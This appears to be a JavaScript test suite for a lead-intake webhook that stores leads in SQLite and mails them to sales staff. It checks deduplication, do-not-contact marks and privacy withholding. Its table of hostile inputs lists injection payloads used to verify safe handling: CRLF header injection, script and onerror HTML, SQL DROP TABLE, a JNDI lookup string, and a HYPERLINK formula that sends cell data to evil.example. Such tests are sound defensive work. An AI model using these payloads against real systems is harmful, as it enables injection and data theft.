// With the sqlite store and a Maildir, as in the quickstart: a lead's whole way,
// what marks it, hostile content, and leadctl list.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const L = require('./lib.js');

const { test } = L;

async function setUp(t, settings = {}) {
  const bench = new L.Bench(t);
  bench.configure({ ...bench.mailHere(), mail_from: 'Website leads <leads@example.com>', mail_per_minute: 6000, ...settings });
  await bench.startNginx();
  await bench.startLeadhook();
  return bench;
}

// Posts the body; gives the answer, the row and the mail, parsed and as it lies there.
async function deliver(bench, body, options) {
  const answer = await bench.post(body, options);
  assert.strictEqual(answer.code, 200, answer.text);
  const mail = await L.until('the mail', async () => (await bench.mails()).find((m) => m.parsed.headers.get('x-lead-id') === answer.json.id));
  const row = await L.until('the mark', () => bench.entities().find((r) => r.LastDeliveryId === answer.json.id && r.NotifiedTime));
  return { answer, row, mail };
}

// What every mail has to be, whatever came.
function assertSafe(mail) {
  assert.match(mail.text, /^[\x20-\x7e\r\n\t]*$/, '7 bits and no control characters');
  const lines = mail.text.split(mail.text.includes('\r\n') ? '\r\n' : '\n');
  assert.ok(lines.every((line) => line.length <= 78 && !/[\r\n]/.test(line)), 'short lines');
  assert.strictEqual(lines.at(-1), '');
  const names = lines.slice(0, lines.indexOf('')).filter((line) => !/^[ \t]/.test(line)).map((line) => line.split(':')[0]);
  for (const name of names) {
    assert.ok(['Date', 'From', 'To', 'Reply-To', 'Message-ID', 'Subject', 'Auto-Submitted', 'X-Auto-Response-Suppress', 'X-Lead-ID', 'X-Request-ID',
      'MIME-Version', 'Content-Type'].includes(name), `header ${name}`);
  }
  assert.strictEqual(new Set(names).size, names.length, 'each header once');
  assert.strictEqual(mail.parsed.attachments.length, 0);
  for (const [tag] of mail.parsed.html.matchAll(/<[^>]*>?/g)) {
    assert.match(tag, /^<(!DOCTYPE html|\/?(html|head|meta|title|body|h[1-4]|p|div|span|strong|em|b|ul|li|hr|table|tr|td|th|br|a)( (lang|dir|charset|name|content|style|role|href)="[^"]*")*)>$/);
    assert.ok(!tag.startsWith('<a') || /href="(mailto|tel):/.test(tag), tag);
  }
}

test("a lead's whole way: sqlite and Maildir", async (t) => {
  const bench = await setUp(t, { mail_to: 'sales@example.com, Boss <boss@example.com>' });
  const body = L.lead({ Description: 'Grüße,\nsecond line' }, { FirstName: 'Jörg', Email: 'joerg@example.com' });
  const { answer, row } = await deliver(bench, body);
  const mails = await L.until('both mails', async () => { const all = await bench.mails(); return all.length === 2 && all; });
  assert.deepStrictEqual(mails.map((m) => m.parsed.to.text).sort(), ['boss@example.com', 'sales@example.com']);
  assert.deepStrictEqual(mails.map((m) => m.parsed.messageId).sort(), [1, 2].map((n) => `<lead.${answer.json.id}.${n}@example.com>`));
  for (const mail of mails) {
    assertSafe(mail);
    assert.strictEqual(mail.parsed.subject, 'Get it now: Contoso App, Example');
    assert.strictEqual(mail.parsed.replyTo.text, 'joerg@example.com');
    for (const part of [mail.parsed.text, mail.parsed.html]) assert.ok(part.includes('Jörg Test') && part.includes('Grüße,'));
  }
  assert.strictEqual(row.partitionKey, 'contoso.contoso-app');
  assert.match(row.rowKey, /^[0-9a-f]{32}-[0-9a-f]{32}$/);
  assert.strictEqual(row.Payload, body);
  assert.ok(!bench.entities().some((r) => r.rowKey.startsWith('~mail-')));
  // The database and the mails are for nobody else.
  for (const name of ['leads.db', 'leads.db-wal', 'Maildir']) assert.strictEqual(fs.statSync(bench.file(name)).mode & 0o077, 0, name);
  const [seen] = bench.sqlite('SELECT * FROM leads');
  assert.deepStrictEqual([seen.Offer, seen.FirstName, seen.Email, seen.Deliveries], ['contoso.contoso-app', 'Jörg', 'joerg@example.com', 1]);
});

test('the same bytes again are a repeat: counted, not mailed', async (t) => {
  const bench = await setUp(t);
  const body = L.lead();
  const { answer } = await deliver(bench, body);
  const again = await bench.post(body);
  assert.deepStrictEqual([answer.json.status, again.json.status], ['stored', 'repeat']);
  assert.notStrictEqual(answer.json.id, again.json.id);
  await deliver(bench, L.lead()); // mails go out in order, so one of the repeat would be here now
  assert.strictEqual(bench.maildir().length, 2);
  const row = bench.entities().find((r) => r.DeliveryId === answer.json.id);
  assert.deepStrictEqual([row.Deliveries, row.LastDeliveryId], [2, again.json.id]);
});

// A process that closes any descriptor of the database loses SQLite's locks on it: whoever looks in then believes to
// be alone and removes the log that leads are being committed to.
test('looking into the database while leadhook runs loses no lead', async (t) => {
  const bench = await setUp(t);
  const bodies = Array.from({ length: 3 }, () => L.lead());
  for (const body of bodies) {
    await deliver(bench, body); // has looked in with sqlite3
    assert.ok(fs.existsSync(bench.file('leads.db-wal')), 'the log is still there');
    assert.strictEqual((await bench.leadctl('list')).status, 0);
  }
  bench.stops.pop();
  assert.strictEqual(await bench.leadhook.stop('SIGKILL'), 'SIGKILL');
  assert.deepStrictEqual(bench.entities().flatMap((row) => row.Payload || []).sort(), bodies.sort());
});

test('fifty times the same bytes at once: one row, one mail', async (t) => {
  const bench = await setUp(t);
  const body = L.lead();
  const answers = await Promise.all(Array.from({ length: 50 }, () => bench.post(body)));
  assert.ok(answers.every((answer) => answer.code === 200));
  assert.strictEqual(answers.filter((answer) => answer.json.status === 'stored').length, 1);
  await L.until('the mark', () => bench.entities().some((row) => row.NotifiedTime));
  const leads = await bench.list();
  assert.deepStrictEqual(leads.map((row) => row.Deliveries), [50]);
  assert.strictEqual(bench.maildir().length, 1);
});

test('outside the repeat window the customer came back, and the mail says so', async (t) => {
  const bench = await setUp(t, { repeat_window_s: 0 });
  const body = L.lead();
  const first = await deliver(bench, body);
  const second = await deliver(bench, body);
  assert.strictEqual(second.answer.json.status, 'repeat');
  assert.strictEqual(second.mail.parsed.subject, `[CAME BACK] ${first.mail.parsed.subject}`);
  assert.notStrictEqual(first.mail.parsed.messageId, second.mail.parsed.messageId);
  assert.match(second.mail.parsed.text, /came back: the same lead has now been received 2 times/);
  assert.strictEqual((await bench.list()).length, 1);
});

test("a mail tells of the person's earlier leads in this offer, and of no other's", async (t) => {
  const bench = await setUp(t);
  const who = { Email: 'Again@Example.com' };
  await deliver(bench, L.lead({ ActionCode: 'PLT', Description: 'first words' }, who));
  await deliver(bench, L.lead({ Description: 'of a stranger' }));
  await deliver(bench, L.lead({ LeadSource: 'AzureMarketplace-INS|contoso.other', Description: 'other offer' }, who));
  const { mail } = await deliver(bench, L.lead({ Description: 'second words' }, { Email: 'again@example.com ' }));
  assert.match(mail.parsed.text, /Earlier leads of this person in this offer\s+\d{4}-\d\d-\d\d Contact me[^:\n]*: first words/);
  assert.ok(!mail.parsed.text.includes('stranger') && !mail.parsed.text.includes('other offer'));
});

const MARKS = [
  { name: 'a test lead', changes: { Description: 'MSFT_TEST_638000000000000000' }, subject: /^\[TEST\] Get it now: /, test: true, says: /test lead/ },
  { name: 'a test lead by its e-mail address', changes: {}, details: { Email: 'msft_test_638000000000000000@test.com' }, subject: /^\[TEST\] /, test: true },
  { name: 'do not contact', changes: { ActionCode: 'DNC' }, subject: /^\[DO NOT CONTACT\] /, dnc: true, says: /Do not contact this customer/ },
  { name: 'do not contact inside LeadSource', changes: { ActionCode: undefined, LeadSource: 'SPZA-DNC|contoso.app' }, subject: /^\[DO NOT CONTACT\] /, dnc: true },
  { name: 'both', changes: { ActionCode: 'DNC', Description: 'MSFT_TEST_1' }, subject: /^\[TEST\] \[DO NOT CONTACT\] /, test: true, dnc: true },
  { name: 'an unknown action', changes: { ActionCode: 'NewThing' }, subject: /^NewThing: / },
];
for (const mark of MARKS) {
  test(`marked in row and mail: ${mark.name}`, async (t) => {
    const bench = await setUp(t);
    const { row, mail } = await deliver(bench, L.lead(mark.changes, mark.details));
    assertSafe(mail);
    assert.match(mail.parsed.subject, mark.subject);
    assert.match(mail.parsed.text, mark.says || /./);
    assert.deepStrictEqual([row.IsTest, row.DoNotContact], [Boolean(mark.test), Boolean(mark.dnc)]);
    assert.strictEqual(mail.parsed.replyTo === undefined, Boolean(mark.dnc), 'no Reply-To to whom nobody may write');
    assert.strictEqual(/href="(mailto|tel):/.test(mail.parsed.html), !mark.dnc);
  });
}

const HOSTILE = {
  quotes: 'O\'Brien "the \\ boss"',
  'CR LF and a header': 'Eve\r\nBcc: victim@example.com\r\n\r\nbody',
  'a line end alone': 'Eve\nX: y\rZ: w',
  emoji: '👩‍👩‍👧‍👦 𝔘𝔫𝔦 \u{1F600}',
  'right-to-left marks': 'gpj.\u202eexe\u202c \u200f\u2066name\u2069',
  'zero width and line separators': 'a\u200bb\u2028c\u2029d\ufeffe\u00ad',
  'control characters': 'bell\u0007 esc\u001b[31m del\u007f c1\u009b',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  'formula prefixes': '+1 -2 @SUM(A1) \t=1',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;<a href="javascript:x">',
  SQL: "Robert'); DROP TABLE entity;--",
  'percent and backslash': '%s%n%00\\u0041 ${jndi:ldap://x} {{7*7}}',
  'encoded word': '=?utf-8?B?SGVsbG8=?= =?iso-8859-1?q?=0D=0A?=',
  'dots on lines': '.\n..\n.\r\n.',
  Korean: '주식회사 예제',
  '32K characters': 'ä'.repeat(32 * 1024),
  'more than a column may have': '𝔘'.repeat(20 * 1024),
};
for (const [name, value] of Object.entries(HOSTILE)) {
  test(`stored exactly as sent and shown safely: ${name}`, async (t) => {
    const bench = await setUp(t, { body_max_bytes: 262144 });
    const body = L.lead({ Description: value, OfferTitle: value, LeadSource: undefined, ActionCode: value.slice(0, 200) },
      { FirstName: value.slice(0, 5000), LastName: 'End', Company: value.slice(0, 5000), Phone: value.slice(0, 300), Title: value.slice(0, 300) });
    const { answer, row, mail } = await deliver(bench, body);
    const sent = JSON.parse(body);
    assert.strictEqual(Object.keys(row).filter((key) => /^Payload\d*$/.test(key)).sort((a, b) => (a.slice(7) || 1) - (b.slice(7) || 1))
      .map((key) => row[key]).join(''), body);
    for (const field of ['FirstName', 'LastName', 'Company', 'Phone', 'Title']) assert.strictEqual(row[field], sent.UserDetails[field], field);
    assert.strictEqual(row.Description, value.length <= 32768 ? value : value.slice(0, 32768), 'cut at a character, if at all');
    assert.strictEqual(row.OfferDisplayName, value.length <= 32768 ? value : value.slice(0, 32768));
    assert.ok(row.partitionKey.length > 0 && !/[/\\#?%\u0000-\u001f\u007f-\u009f]/.test(row.partitionKey), row.partitionKey);

    assertSafe(mail);
    assert.strictEqual(mail.parsed.messageId, `<lead.${answer.json.id}.1@example.com>`);
    assert.ok(!/[\r\n]/.test(mail.parsed.subject), 'one line of subject');
    for (const part of [mail.parsed.subject, mail.parsed.text, mail.parsed.html]) {
      assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/.test(part), 'nothing invisible');
    }
    if (value.length < 1000) assert.match(mail.parsed.text, /End$/m);

    const shown = await bench.leadctl('list');
    assert.strictEqual(shown.status, 0, shown.stderr);
    assert.strictEqual(shown.stdout.trimEnd().split('\n').length, 2, 'one line per lead');
    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(shown.stdout), 'safe for a terminal');
    const [listed] = await bench.list();
    assert.strictEqual(listed.FirstName, sent.UserDetails.FirstName);
  });
}

test('an unsafe address is shown, and neither replied to nor linked', async (t) => {
  const bench = await setUp(t);
  for (const email of ['a@b.example\r\nBcc: victim@example.com', '"quoted str"@example.com', 'two@@example.com', 'x@[127.0.0.1]', 'a%b@example.com',
    'victim@example.com, other@example.com', '<a@example.com>', 'jörg@example.com', `${'a'.repeat(65)}@example.com`]) {
    const { mail, row } = await deliver(bench, L.lead({}, { Email: email }));
    assertSafe(mail);
    assert.strictEqual(row.Email, email);
    assert.strictEqual(mail.parsed.replyTo, undefined, email);
    assert.ok(!mail.parsed.html.includes('mailto:'), email);
  }
});

test('a mail for a body of 64 KiB is cut, says so, and stays small; the store has the whole', async (t) => {
  const bench = await setUp(t);
  const description = 'Please call. '.repeat(5000);
  const { row, mail } = await deliver(bench, L.lead({ Description: description }));
  assertSafe(mail);
  assert.match(mail.parsed.text, /\[\.\.\.\] \(cut here; the whole is in the store\)/);
  assert.ok(mail.text.length < 64 * 1024, `${mail.text.length} bytes`);
  assert.strictEqual(JSON.parse(row.Payload + (row.Payload2 || '') + (row.Payload3 || '')).Description, description);
});

test('summary mails hold no personal data', async (t) => {
  const bench = await setUp(t, { notify_detail: 'summary' });
  const { answer, mail } = await deliver(bench, L.lead({ Description: 'secret words' }, { FirstName: 'Zebediah', Phone: '5550199', Title: 'Wizard' }));
  for (const text of [mail.text, mail.parsed.text, mail.parsed.html]) {
    for (const personal of ['Zebediah', '5550199', 'Wizard', 'secret words', 'ana']) assert.ok(!text.includes(personal), personal);
  }
  assert.strictEqual(mail.parsed.replyTo, undefined);
  assert.ok(mail.parsed.text.includes(answer.json.id));
});

test('withheld domains: the lead is kept, the person is not', async (t) => {
  const bench = await setUp(t, { withhold_domains: '.edu, example.org' });
  for (const email of ['Student@physics.university.EDU', 'x@example.org', 'x@mail.example.org']) {
    const { row, mail } = await deliver(bench, L.lead({ Description: 'my thesis' }, { FirstName: 'Zebediah', Email: email }));
    assert.strictEqual(row.PersonalDataWithheld, true);
    const all = JSON.stringify(row) + mail.parsed.text + mail.parsed.html + mail.parsed.subject;
    for (const personal of ['Zebediah', email, 'thesis', '16175550100']) assert.ok(!all.includes(personal), personal);
    assert.strictEqual(row.Payload, undefined);
    assert.strictEqual(row.partitionKey, 'contoso.contoso-app');
  }
  const { row } = await deliver(bench, L.lead({}, { Email: 'x@notexample.org' }));
  assert.strictEqual(row.PersonalDataWithheld, false);
});

// "sudo leadctl check" before the first start: leadhook, which is not root, has to be able to open what is there then.
test('leadctl makes no file that is not of the user whose folder it is in', async (t) => {
  const bench = new L.Bench(t);
  const folder = bench.file('state');
  fs.mkdirSync(folder, { mode: 0o700 });
  bench.configure({ store: `sqlite:${folder}/leads.db`, mail_url: `maildir:${folder}/Maildir`, mail_from: 'leads@example.com', mail_to: 'sales@example.com' });
  if (process.getuid() === 0) {
    for (const path of [folder, bench.file('keys'), bench.config]) fs.chownSync(path, 65534, 65534);
  }
  const owner = fs.statSync(folder).uid;
  const check = await bench.leadctl('check', '--nginx', 'off');
  assert.strictEqual(check.status, 0, check.stdout + check.stderr);
  assert.strictEqual((await bench.leadctl('relay', '--once')).status, 0);
  const made = fs.readdirSync(folder);
  for (const name of ['leads.db', 'leads.db.relay.lock', 'Maildir']) assert.ok(made.includes(name), made.join());
  for (const name of made) assert.strictEqual(fs.statSync(`${folder}/${name}`).uid, owner, name);
});

test('leadctl list shows the newest first, as a table and as JSON', async (t) => {
  const bench = await setUp(t);
  assert.match((await bench.leadctl('list')).stdout, /no leads yet/);
  let last;
  for (const name of ['First', 'Second', 'Third']) last = await deliver(bench, L.lead({}, { LastName: name, Company: 'A company with a really long name' }));
  const table = await bench.leadctl('list', '-n', '2');
  const lines = table.stdout.trimEnd().split('\n');
  assert.strictEqual(lines.length, 3);
  assert.match(lines[0], /^RECEIVED \(UTC\) +ID +OFFER +ACTION +NAME +COMPANY +E-MAIL +MAIL +NOTES$/);
  assert.strictEqual(lines[1].split(/ +/)[2], last.answer.json.id.slice(0, 8)); // by which the mail says to look
  assert.match(lines[1], /^\d{4}-\d\d-\d\d \d\d:\d\d +[0-9a-f]{8} +contoso\.contoso-app +INS +Ana Third +A company with a \.\.\.  +ana\d+@example\.com +sent$/);
  assert.match(lines[2], / Ana Second /);
  const rows = await bench.list();
  assert.deepStrictEqual(rows.map((row) => row.LastName), ['Third', 'Second', 'First']);
  assert.deepStrictEqual([rows[0].Offer, rows[0].Deliveries, rows[0].IsTest, rows[0].KeyName], ['contoso.contoso-app', 1, false, 'market']);
  assert.match(rows[0].ReceivedTime, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  assert.strictEqual((await bench.leadctl('list', '-n', '0')).status, 64);
});
